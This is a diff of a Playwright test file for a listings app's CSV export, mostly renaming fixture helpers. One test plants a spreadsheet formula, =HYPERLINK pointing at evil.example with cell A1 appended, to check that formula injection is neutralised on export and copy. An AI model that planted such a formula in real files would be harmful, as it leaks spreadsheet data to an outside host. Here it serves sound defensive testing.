@@ -4,21 +4,21 @@ import path from 'node:path';
 import { expect, test } from 'playwright/test';
 import { parseCsv } from '../shared/listings/parse-csv.ts';
 import {
-  type Browser,
-  expectAsked,
+  type ListingsPage,
+  expectRequests,
   expectPage,
   openListings,
-  PLATE,
-  platesIn,
-  sampleListings,
-  sampleSearch,
-  sharedCountedApp,
-  TOTAL,
+  SAMPLE_PLATE,
+  readPlates,
+  loadAllSampleListings,
+  searchSample,
+  sharedRecordingApp,
+  SAMPLE_LISTING_COUNT,
 } from './fixtures/listings.ts';
-import { choose } from './fixtures/screens.ts';
+import { chooseEnvironment } from './fixtures/screens.ts';
 
-const counted = sharedCountedApp();
-let browser: Browser;
+const counted = sharedRecordingApp();
+let browser: ListingsPage;
 let folder: string;
 
 test.beforeAll(async () => {
@@ -42,19 +42,19 @@ async function readRows(file: string): Promise<Record<string, string>[]> {
 
 test('what is loaded is saved where the dialog says, and asks nothing', async () => {
   const { page } = (browser = await openListings(counted.app().page));
-  await choose(page, 'Sample');
+  await chooseEnvironment(page, 'Sample');
   browser = await openListings(page);
   await browser.filters.getByRole('button', { name: 'Search' }).click();
-  await expectPage(browser, TOTAL);
+  await expectPage(browser, SAMPLE_LISTING_COUNT);
   await page.keyboard.press('n');
-  await expectPage(browser, TOTAL, 2);
+  await expectPage(browser, SAMPLE_LISTING_COUNT, 2);
   await page.getByRole('button', { name: 'Save CSV (20)' }).waitFor();
   const file = path.join(folder, 'sample.csv');
-  await counted.app().saveTo(file);
+  await counted.app().setSavePath(file);
   await save();
   await expect(messages()).toContainText('Saved sample.csv, 20 listings');
   const rows = await readRows(file);
-  const all = (await sampleListings()).slice(0, 20);
+  const all = (await loadAllSampleListings()).slice(0, 20);
   expect(rows.map((row) => row['Plate'])).toEqual(all.map(({ vrm }) => vrm));
   for (const [at, listing] of all.entries())
     expect(rows[at]).toMatchObject({
@@ -68,15 +68,15 @@ test('what is loaded is saved where the dialog says, and asks nothing', async ()
       Version: '3.0',
     });
   expect(await readdir(folder)).toEqual(['sample.csv']);
-  await choose(page, 'Production');
-  await expectAsked(counted, []);
+  await chooseEnvironment(page, 'Production');
+  await expectRequests(counted, []);
 });
 
 test('text that a spreadsheet would calculate is made harmless; comparables are named', async () => {
-  const record = await sampleSearch({});
+  const record = await searchSample({});
   const [first = {}, second = {}, ...others] = record.listings ?? [];
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
-  counted.plan.instead = ({ path: asked }) =>
+  counted.plan.override = ({ path: asked }) =>
     asked.startsWith('/similar-listings/')
       ? Response.json({
           ...record,
@@ -94,15 +94,15 @@ test('text that a spreadsheet would calculate is made harmless; comparables are 
           ],
         })
       : undefined;
-  browser = await openListings(counted.app().page, PLATE);
-  const { page, rows, listing, filters } = browser;
+  browser = await openListings(counted.app().page, SAMPLE_PLATE);
+  const { page, rows, selectedListing, filters } = browser;
   await filters.getByRole('button', { name: 'Search' }).click();
-  await expectPage(browser, TOTAL);
+  await expectPage(browser, SAMPLE_LISTING_COUNT);
   await rows.nth(0).getByRole('button').first().click();
-  await listing.getByRole('button', { name: 'Mark as comparable' }).click();
-  await listing.getByLabel('Note').fill('=1+1');
+  await selectedListing.getByRole('button', { name: 'Mark as comparable' }).click();
+  await selectedListing.getByLabel('Note').fill('=1+1');
   const file = path.join(folder, 'hostile.csv');
-  await counted.app().saveTo(file);
+  await counted.app().setSavePath(file);
   await save();
   await expect(messages()).toContainText('Saved hostile.csv, 10 listings');
   const [row, next] = await readRows(file);
@@ -118,10 +118,10 @@ test('text that a spreadsheet would calculate is made harmless; comparables are 
   });
   expect(next).toMatchObject({ Description: second.description, Comparable: '', Note: '' });
   // On screen it is what it was: text.
-  await expect(listing.getByRole('heading').first()).toHaveText(formula);
-  await listing.getByRole('button', { name: 'Copy row' }).click();
+  await expect(selectedListing.getByRole('heading').first()).toHaveText(formula);
+  await selectedListing.getByRole('button', { name: 'Copy row' }).click();
   await expect(page.getByText('Row copied')).toBeVisible();
-  const copied = await counted.app().copied();
+  const copied = await counted.app().readClipboard();
   expect(copied.split('\t')[0]).toBe(`'${formula}`);
   expect(copied).not.toMatch(/[\r\n]/);
 });
@@ -130,21 +130,21 @@ test('a dialog that is cancelled says nothing; a place that cannot be written is
   const { page } = browser;
   const dismiss = messages().getByRole('button', { name: 'Dismiss' });
   while ((await dismiss.count()) > 0) await dismiss.first().click();
-  await counted.app().saveTo(undefined);
+  await counted.app().setSavePath(undefined);
   await save();
   // The button waits for the dialog, and then nothing is said.
   await expect(page.getByRole('button', { name: /^Save CSV/ })).toBeEnabled();
   await expect(messages()).toBeEmpty();
 
-  await counted.app().saveTo(path.join(folder, 'gone', 'a.csv'));
+  await counted.app().setSavePath(path.join(folder, 'gone', 'a.csv'));
   await save();
   await expect(messages()).toContainText(
     'The file was not saved. That folder is not there any more. Choose another one.',
   );
   await mkdir(path.join(folder, 'taken.csv', 'inside'), { recursive: true });
-  await counted.app().saveTo(path.join(folder, 'taken.csv'));
+  await counted.app().setSavePath(path.join(folder, 'taken.csv'));
   await save();
   await expect(messages()).toContainText('There is a folder of that name. Choose another name.');
   expect((await readdir(folder)).toSorted()).toEqual(['hostile.csv', 'sample.csv', 'taken.csv']);
-  expect(await platesIn(browser)).toHaveLength(10);
+  expect(await readPlates(browser)).toHaveLength(10);
 });
